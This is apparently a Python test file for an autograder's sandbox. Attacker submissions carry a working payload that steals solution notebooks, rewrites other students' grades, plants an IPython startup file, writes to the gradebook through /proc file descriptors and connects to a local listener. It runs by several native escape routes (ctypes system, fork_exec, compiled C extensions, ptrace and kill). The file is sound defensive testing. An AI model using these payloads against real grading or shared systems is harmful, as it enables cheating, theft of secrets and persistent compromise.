"""Does the gradebook hold against native code?  A class with attackers, graded serially and in parallel.

Each attacker is a lesson-02 submission whose answers are right and whose code also runs an attack, by one
route the Python-level guard cannot see or was shown to miss (issue 24): libc ``system`` through ctypes,
``_posixsubprocess.fork_exec``, ``os.posix_spawn``, ``os.fork`` + ``exec``, a compiled C extension and a shared
library shipped with the submission, signals and ``ptrace`` to every process it can see, writes into
``/proc/<pid>/fd/*``, and a TCP connection to a server this test listens on at 127.0.0.1.  Most attack from
the notebook kernel (an answer cell); two from a check worker (the student's function).  Every attack knows
the exact course folder and the grader's home and tries to: read ``solutions/`` and the gradebook, write
beside the course, set another student's grades to 99, plant a startup file in the grader's ``~/.ipython``
(which a later kernel would run), and phone home.

What must hold, for ``nbgrader autograde`` (serial: `make test-full`) and ``course autograde --workers 2`` alike:
every honest student's grades equal a clean run's, every attacker gets what its own (right) answers earn, the course
folder (grading's own outputs aside) and the grader's home are byte for byte unchanged, no connection arrives, and
no attacker's output shows anything it reached. A control run of the same attacks with the sandbox off
(`make test-full`) shows they are real: there they read the solutions, plant the startup file and phone home.
"""
from __future__ import annotations

import hashlib
import json
import os
import socket
import subprocess
import sys
import sysconfig
import textwrap
import threading
from pathlib import Path

import nbformat
import pytest


from autograder.course import grading, nbgrader_cli
from autograder.isolation import sandbox
from helpers import full_only, submission

pytestmark = [pytest.mark.skipif(not sys.platform.startswith("linux"), reason="bubblewrap is Linux-only")]

LESSON = "02_fused_rmsnorm"
REFERENCE = grading.reference_answers(LESSON)
#: Graded before the attackers (nbgrader goes by student id), so that an attack could change their grades.
HONEST = {"alice": {}, "amir": {},
          "anna_partial": {"fused_add_rms_norm": "def fused_add_rms_norm(x, residual, w, eps=1e-6):\n"
                                                   "    raise NotImplementedError()"}}
#: Grading's own outputs in the course folder: everything else there must stay byte for byte the same.
GRADING_OUTPUTS = ("gradebook.db", "gradebook.db.backup", "autograded", "feedback", ".course-autograde.lock",
                   "autograde_errors")

#: The attack itself: a Python program that every route starts (``{...}`` filled in per attacker).
PAYLOAD = r'''
import glob, os, pwd, socket, sqlite3, shutil
course, home, port, route, dry = {course!r}, {home!r}, {port!r}, {route!r}, {dry!r}
base = os.path.dirname(course)  # writes go only into this test's folders, even where nothing stops them
def ours(path):
    return path.startswith(base + os.sep) or path.startswith(home + os.sep)
found = []
def note(line):
    found.append(line)
roots = {{course}}
for cwd in glob.glob("/proc/[0-9]*/cwd"):  # the grader's processes' folders: how the course was found before
    try:
        roots.add(os.readlink(cwd))
    except OSError:
        pass
for root in sorted(roots):
    for nb in glob.glob(os.path.join(root, "solutions", "*", "*.ipynb")):
        try:
            shutil.copy(nb, "stolen-" + os.path.basename(nb)); note("READ " + nb)
        except OSError:
            pass
    db = os.path.join(root, "gradebook.db")
    if os.path.exists(db) and ours(db):
        try:
            with sqlite3.connect(db) as c:
                c.execute("UPDATE grade SET manual_score = 99, extra_credit = 99"); note("WROTE " + db)
        except Exception as e:
            note("gradebook refused: %s" % e)
    for target in (os.path.join(root, "PWNED-" + route), os.path.join(os.path.dirname(root), "PWNED-" + route)):
        if ours(target):
            try:
                open(target, "w").write(route); note("WROTE " + target)
            except OSError:
                pass
startup = os.path.join(home, ".ipython", "profile_default", "startup")  # the real one would be
try:                                                                    # pwd.getpwuid(os.getuid()).pw_dir
    os.makedirs(startup, exist_ok=True)
    open(os.path.join(startup, "99-%s.py" % route), "w").write("open('/tmp/ran-" + route + "', 'w')")
    note("PLANTED " + startup)
except OSError:
    pass
for fd in glob.glob("/proc/[0-9]*/fd/*"):
    try:
        if os.readlink(fd).endswith("gradebook.db") and ours(os.readlink(fd)):
            with open(fd, "r+b") as f:  # dry (the control run): opened for writing is enough to show it
                if not dry:
                    f.write(b"garbage")
                note("WROTE " + fd)
    except OSError:
        pass
try:
    socket.create_connection(("127.0.0.1", port), timeout=3).sendall(route.encode()); note("CONNECTED")
except OSError:
    pass
open("evidence-" + route, "w").write("\n".join(found) or "nothing")
'''

#: How each route runs the payload (``code``: the payload as one Python string constant).
ROUTES = {
    "libc_system": "import ctypes, shlex, sys\nctypes.CDLL(None).system((shlex.quote(sys.executable) + ' -c ' + "
                   "shlex.quote(code)).encode())",
    "posixsubprocess": textwrap.dedent("""\
        import _posixsubprocess, os, sys
        error_read, error_write = os.pipe()  # names of its own: in a check it runs inside fused_rms_norm(x, w)
        argv = [sys.executable.encode(), b"-c", code.encode()]
        common = (argv, [argv[0]], True, (), None, None, -1, -1, -1, -1, -1, -1, error_read, error_write, True, False)
        try:
            pid = _posixsubprocess.fork_exec(*common, -1, None, None, None, -1, None, False)  # 3.11, 3.12
        except TypeError:
            pid = _posixsubprocess.fork_exec(*common, -1, None, None, None, -1, None)
        os.close(error_write); os.read(error_read, 100); os.waitpid(pid, 0)"""),
    "posix_spawn": "import os, sys\ntry:\n    os.waitpid(os.posix_spawn(sys.executable, [sys.executable, '-c', code], "
                   "dict(os.environ)), 0)\nexcept PermissionError:\n    pass",
    "fork_exec": "import os, sys\ntry:\n    pid = os.fork()\n    if pid == 0:\n        os.execv(sys.executable, "
                 "[sys.executable, '-c', code])\n    os.waitpid(pid, 0)\nexcept PermissionError:\n    pass",
    "c_extension": "import evilext\nevilext.run(code)",
    # In a check worker the submission folder is not on the path: the function carries the module's bytes.
    "c_extension_by_bytes": textwrap.dedent("""\
        import importlib.util, os, tempfile
        # a new file each call: rewriting a loaded extension's file would crash the process that maps it
        fd, path = tempfile.mkstemp(suffix=SUFFIX, dir=".")
        os.write(fd, EXTENSION); os.close(fd)
        spec = importlib.util.spec_from_file_location("evilext", os.path.abspath(path))
        module = importlib.util.module_from_spec(spec); spec.loader.exec_module(module)
        module.run(code)"""),
    "shared_library": "import ctypes\nctypes.CDLL('./libevil.so').run(code.encode())",
    "signals_ptrace": textwrap.dedent("""\
        import ctypes, glob, os
        libc = ctypes.CDLL(None)
        exec(code)
        for pid in sorted({int(p.split("/")[2]) for p in glob.glob("/proc/[0-9]*")} | {os.getppid()}):
            if pid != os.getpid():
                libc.ptrace(16, pid, 0, 0)  # PTRACE_ATTACH
                libc.kill(pid, 19)          # SIGSTOP
                libc.kill(pid, 9)           # SIGKILL"""),
}
#: Attackers: (route, where): "kernel" runs the route in the answer cell, "check" inside the student's
#: function, which the checks call in their worker processes.
ATTACKERS = {f"attack_{route}": (route, "kernel") for route in ROUTES if route != "c_extension_by_bytes"} | {
    "attack_posixsubprocess_in_check": ("posixsubprocess", "check"),
    "attack_c_extension_in_check": ("c_extension_by_bytes", "check"),
}
#: Routes the guard alone stops (it refuses the call): nothing to show in the control run.
GUARD_STOPS = {"posix_spawn", "fork_exec"}

C_EXTENSION = r'''
#define PY_SSIZE_T_CLEAN
#include <Python.h>
#include <stdlib.h>
#include <string.h>
static PyObject *run(PyObject *self, PyObject *args) {
    const char *code; if (!PyArg_ParseTuple(args, "s", &code)) return NULL;
    char *line = malloc(strlen(code) * 4 + 512);
    char *q = line + sprintf(line, "'%s' -c '", EXECUTABLE);
    for (const char *c = code; *c; ++c) { if (*c == '\'') { strcpy(q, "'\\''"); q += 4; } else *q++ = *c; }
    strcpy(q, "'");
    int rc = system(line); free(line); return PyLong_FromLong(rc);
}
static PyMethodDef methods[] = {{"run", run, METH_VARARGS, ""}, {NULL, NULL, 0, NULL}};
static struct PyModuleDef module = {PyModuleDef_HEAD_INIT, "evilext", NULL, -1, methods};
PyMODINIT_FUNC PyInit_evilext(void) { return PyModule_Create(&module); }
'''
SHARED_LIBRARY = r'''
#include <stdlib.h>
#include <stdio.h>
#include <string.h>
int run(const char *code) {
    FILE *f = fopen("payload.py", "w"); fputs(code, f); fclose(f);
    return system("'" EXECUTABLE "' payload.py");
}
'''


def compile_native(folder: Path) -> dict[str, bytes]:
    """The two native files an attacker ships: a Python C extension and a plain shared library."""
    suffix = sysconfig.get_config_var("EXT_SUFFIX")
    include = sysconfig.get_paths()["include"]
    built = {}
    for name, source, extra in (("evilext" + suffix, C_EXTENSION, ["-I", include]),
                                ("libevil.so", SHARED_LIBRARY, [])):
        c_file = folder / (name + ".c")
        c_file.write_text(source)
        subprocess.run(["gcc", "-shared", "-fPIC", "-O1", f'-DEXECUTABLE="{sys.executable}"', *extra,
                        "-o", str(folder / name), str(c_file)], check=True)
        built[name] = (folder / name).read_bytes()
    return built


def attacker_answers(route: str, where: str, payload: str, native: dict[str, bytes]) -> dict[str, str]:
    suffix = sysconfig.get_config_var("EXT_SUFFIX")
    run_route = (f"code = {payload!r}\nSUFFIX = {suffix!r}\nEXTENSION = {native['evilext' + suffix]!r}\n"
                 + ROUTES[route])
    if where == "kernel":
        shown = (f"import os\nprint(open('evidence-{route}').read() if os.path.exists('evidence-{route}') "
                 "else 'nothing')\n\n")
        return {"fused_rms_norm": run_route + "\n" + shown + REFERENCE["fused_rms_norm"]}
    body = textwrap.indent(f"try:\n{textwrap.indent(run_route, '    ')}\nexcept Exception:\n    pass", "    ")
    reference = REFERENCE["fused_rms_norm"].split("\n", 1)
    # the student's own try of the function (the lesson's demonstrations are left out): the attack runs in
    # the kernel too, as in a whole notebook, where the demonstrations call it
    tried = "\n\nfused_rms_norm(np.ones((2, 8), dtype=np.float32), np.ones(8, dtype=np.float32))\n"
    return {"fused_rms_norm": reference[0] + "\n" + body + "\n" + reference[1] + tried}


class Listener:
    """A TCP server on 127.0.0.1 that counts connections."""

    def __init__(self):
        self.socket = socket.create_server(("127.0.0.1", 0))
        self.port, self.connections = self.socket.getsockname()[1], []
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self):
        while True:
            try:
                connection, _ = self.socket.accept()
            except OSError:
                return
            self.connections.append(connection.recv(100))


def digest(folder: Path, skip: tuple[str, ...] = ()) -> dict[str, str]:
    found = {}
    for path in sorted(folder.rglob("*")):
        relative = path.relative_to(folder)
        if relative.parts and relative.parts[0] in skip:
            continue
        found[str(relative)] = hashlib.sha256(path.read_bytes()).hexdigest() if path.is_file() else "dir"
    return found


def make_class(folder: Path, home: Path, *, attackers: dict = {}, listener: Listener | None = None,
               dry: bool = False) -> Path:
    """A course in ``folder``/course, its assignment generated, with the honest students and ``attackers``
    submitted (each attacker's folder also holds the native files it ships)."""
    root = nbgrader_cli.new_course(folder / "course", only=[LESSON])
    submissions = {name: submission(LESSON, answers) for name, answers in HONEST.items()}
    native = compile_native(folder) if attackers else {}
    for name, (route, where) in attackers.items():
        payload = PAYLOAD.format(course=str(root), home=str(home), port=listener.port, route=route, dry=dry)
        submissions[name] = submission(LESSON, attacker_answers(route, where, payload, native))
    grading.write_submissions(root, LESSON, submissions)
    for name in attackers:
        for file, data in native.items():
            (root / "submitted" / name / LESSON / file).write_bytes(data)
    subprocess.run([*BATCH, json.dumps([["generate_assignment", LESSON, "--force"]])], cwd=root,
                   env={**nbgrader_cli.nbgrader_env(), "HOME": str(home)}, check=True, capture_output=True)
    return root


BATCH = [sys.executable, "-m", "autograder.nbgrader.batch", "--scratch"]


def grade(root: Path, home: Path, how: str, *extra: str, check: bool = True) -> dict[str, dict[str, float]]:
    env = {**nbgrader_cli.nbgrader_env(), "HOME": str(home)}
    if how == "serial":
        command = [*BATCH, json.dumps([["autograde", LESSON, "--force", *extra]])]
    else:
        command = [str(Path(sys.executable).parent / "course"), "autograde", LESSON, "--workers", "2", "--force",
                   *extra]
    done = subprocess.run(command, cwd=root, env=env, capture_output=True, text=True, timeout=1200)
    assert done.returncode == 0 or not check, done.stderr[-3000:]
    students = sorted(p.name for p in (root / "submitted").iterdir())
    return {s: {g.cell: g.score for g in grades} for s, grades in grading.read_grades(root, LESSON, students).items()}


def outputs_of(root: Path, student: str) -> str:
    nb = nbformat.read(root / "autograded" / student / LESSON / f"{LESSON}.ipynb", as_version=4)
    return "\n".join(o.get("text", "") + json.dumps(o.get("data", {}), ensure_ascii=False)
                     for c in nb.cells if c.cell_type == "code" for o in c.get("outputs", []))


@pytest.fixture(scope="session")  # once per worker: xdist interleaves modules, which would rebuild a module fixture
def clean_grades(tmp_path_factory):
    folder = tmp_path_factory.mktemp("clean")
    home = folder / "home"
    home.mkdir()
    return grade(make_class(folder, home), home, "serial")


def grader_home(folder: Path) -> Path:
    home = folder / "grader-home"
    (home / ".ipython" / "profile_default" / "startup").mkdir(parents=True)
    (home / ".jupyter").mkdir()
    (home / ".bashrc").write_text("# the grader's own\n")
    return home


@pytest.mark.skipif(not sandbox.available(), reason="unreachable: see test_the_sandbox_is_available")
@pytest.mark.parametrize("how", [
    pytest.param("serial", marks=full_only(
        "the attacks through serial `nbgrader autograde` (the same sandbox around each kernel and check as in "
        "`course autograde`, whose workers also grade students one after another; a minute of both CI cores)",
        "its [parallel] case, and clean_grades: the honest class through serial nbgrader in the sandbox")),
    "parallel"])
def test_no_route_reaches_another_grade_the_course_or_the_graders_home(tmp_path, how, clean_grades):
    listener = Listener()
    home = grader_home(tmp_path)
    root = make_class(tmp_path, home, attackers=ATTACKERS, listener=listener)
    before_course = digest(tmp_path, skip=("grader-home",))
    before_home = digest(home)
    grades = grade(root, home, how)

    for student, cells in clean_grades.items():
        assert grades[student] == cells, f"{student}: {grades[student]} != clean {cells}"
    reference = clean_grades["alice"]
    for student in ATTACKERS:
        assert grades[student] == reference, f"{student} got {grades[student]}, its answers earn {reference}"
    after = digest(tmp_path, skip=("grader-home",))
    changed = sorted(k for k in set(before_course) | set(after) if before_course.get(k) != after.get(k)
                     and not any(k.startswith(f"course/{output}") for output in GRADING_OUTPUTS))
    assert not changed, f"changed beside grading's own outputs: {changed[:10]}"
    assert digest(home) == before_home, "the grader's home changed"
    assert listener.connections == [], f"connections arrived: {listener.connections}"
    for student, (route, where) in ATTACKERS.items():  # what each attack itself saw it reach: no secret read,
        if where == "kernel":  # no gradebook or grader's descriptor written, nothing planted, no connection (its
            reached = [line for line in outputs_of(root, student).splitlines()  # other writes land in the
                       if line.startswith(("READ ", "PLANTED ", "CONNECTED"))  # sandbox's private /tmp and
                       or (line.startswith("WROTE ") and (line.endswith("gradebook.db") or "/fd/" in line))]
            assert not reached, f"{student}: {reached}"  # submission copy: the digests above show that)


@pytest.mark.skipif(not sandbox.available(), reason="unreachable: see test_the_sandbox_is_available")
@full_only("the control run of the attacks without the sandbox (it proves the attacks real; a class of 17, two "
           "minutes of a loaded CI machine)", "test_no_route_reaches_another_grade_the_course_or_the_graders_home, "
           "the same attacks stopped by the sandbox, serially and in parallel")
def test_the_same_attacks_reach_everything_without_the_sandbox(tmp_path):
    """The control: with the sandbox off, the routes the guard does not see read the solutions, set another
    student's grades to 99, open the grader's descriptor of the gradebook for writing (without writing: that
    would end the run), plant the startup file and phone home (so the test above would fail if the sandbox
    let them through)."""
    listener = Listener()
    home = grader_home(tmp_path)
    attackers = {name: (route, where) for name, (route, where) in ATTACKERS.items()
                 if route not in GUARD_STOPS and route != "signals_ptrace"}  # that one would kill the grader
    root = make_class(tmp_path, home, attackers=attackers, listener=listener, dry=True)
    grades = grade(root, home, "serial", "--IsolatedExecute.sandbox=off")
    assert all(score >= 99 for score in grades["alice"].values()), grades["alice"]  # 99 + 99 extra credit
    kernel_attackers = {name for name, (_, where) in attackers.items() if where == "kernel"}
    for name in kernel_attackers:
        assert "WROTE " in outputs_of(root, name) and "gradebook.db" in outputs_of(root, name), name
    routes = {route for route, _ in attackers.values()}
    planted = {p.name for p in (home / ".ipython" / "profile_default" / "startup").iterdir()}
    assert planted == {f"99-{route}.py" for route in routes}, planted
    assert {c.decode() for c in listener.connections} == routes, listener.connections
    stolen = {p.parts[-3] for p in (root / "autograded").glob(f"*/{LESSON}/stolen-*.ipynb")}
    assert stolen == set(attackers), stolen  # the check attackers too: their answer cell calls the function


def test_the_sandbox_is_available():
    """Grading a class needs bubblewrap; CI installs it (.ci/run).  Here it must work, not be skipped."""
    ok, why = sandbox.status()
    assert ok, f"{why}. {sandbox.INSTALL_HINT}"
